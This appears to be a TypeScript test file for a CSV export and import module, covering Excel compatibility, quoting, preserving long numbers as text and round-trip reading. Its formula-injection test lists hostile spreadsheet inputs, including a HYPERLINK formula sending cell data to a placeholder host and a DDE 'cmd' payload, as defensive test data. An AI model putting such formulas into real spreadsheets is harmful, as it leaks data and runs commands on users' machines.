import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readCsv, writeCsv } from '../../../shared/sheets/csv.ts';
import type { Cell, SheetColumn } from '../../../shared/sheets/sheet.ts';

async function csv(columns: SheetColumn[], ...batches: Cell[][][]): Promise<string> {
  let text = '';
  for await (const piece of writeCsv(columns, batches)) text += piece;
  return text;
}

test('Excel opens it by a double click: a mark, CRLF, commas and quotes in quotes', async () => {
  const text = await csv(
    [{ title: '姓名' }, { title: '备注' }],
    [['张三', '会“英语”, "德语"']],
    [['李四', '第一行\n第二行']],
  );
  expect(text).toBe('\uFEFF姓名,备注\r\n张三,"会“英语”, ""德语"""\r\n李四,"第一行\n第二行"\r\n');
});

test('formula injection: whatever a spreadsheet would run has an apostrophe before it', async () => {
  const attacks = ['=1+1', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1', '\n=1', '＝1+1', '＠SUM(A1)'];
  for (const attack of [...attacks, '=HYPERLINK("http://x.example/?"&A1,"开")', "=cmd|' /C calc'!A0"]) {
    const [, line] = (await csv([{ title: 'a' }], [[attack]])).split('\r\n');
    expect(line, attack).toMatch(/^"?'/);
  }
  const head = await csv([{ title: '=1+1' }], []);
  expect(head).toBe("\uFEFF'=1+1\r\n");
});

test('numbers, IDs and mobiles as text: no digit is lost, no date is made of a house number', async () => {
  const texts = ['110101199003070021', '13800138000', '007', '1/2', '2026-11-22', '12:30', '1E5', '98%'];
  const text = await csv(
    [{ title: 'a' }],
    texts.map((one) => [one]),
  );
  expect(text.split('\r\n').slice(1, -1)).toEqual(texts.map((one) => `"\t${one}"`));
  expect(
    readCsv(text.slice(1), 100)!
      .slice(1)
      .map(({ cells }) => cells[0]),
  ).toEqual(texts);
  const kinds: SheetColumn[] = [
    { title: 'n', kind: 'number' },
    { title: 'd', kind: 'date' },
    { title: 't', kind: 'time' },
  ];
  const at = Date.parse('2026-11-22T16:05:00Z');
  expect(await csv(kinds, [[-3, '1990-03-07', at]])).toContain('\r\n-3,1990-03-07,2026-11-23 00:05\r\n');
});

test('what was written is read again as it was, any text', async () => {
  const text = fc.string({ unit: 'binary', maxLength: 12 }).map((one) => one.toWellFormed().replace(/\r\n?/g, '\n'));
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
      const read = readCsv((await csv([{ title: 'a' }, { title: 'b' }], rows)).slice(1), 100)!;
      // Rows of nothing are left out; an apostrophe that stood before a formula already is taken for ours.
      const kept = rows.filter((row) => row.some((cell) => cell.trim() !== ''));
      fc.pre(rows.flat().every((cell) => !/^['\t]/.test(cell)));
      expect(read.slice(1).map(({ cells }) => cells)).toEqual(kept);
    }),
    { numRuns: 500 },
  );
});

test('line numbers are those of the file, line breaks within a cell included', () => {
  const rows = readCsv('a,b\r\n"x\ny",1\r\n\r\nz,2', 100)!;
  expect(rows.map(({ line }) => line)).toEqual([1, 2, 5]);
  expect(readCsv('a;b\r\n1;2', 9)!.map(({ cells }) => cells.length)).toEqual([2, 2]);
  expect(readCsv('a\tb\n1\t2', 9)!.map(({ cells }) => cells.length)).toEqual([2, 2]);
  expect(readCsv('a,b\n"never closed,1\n', 9)).toBeUndefined();
});
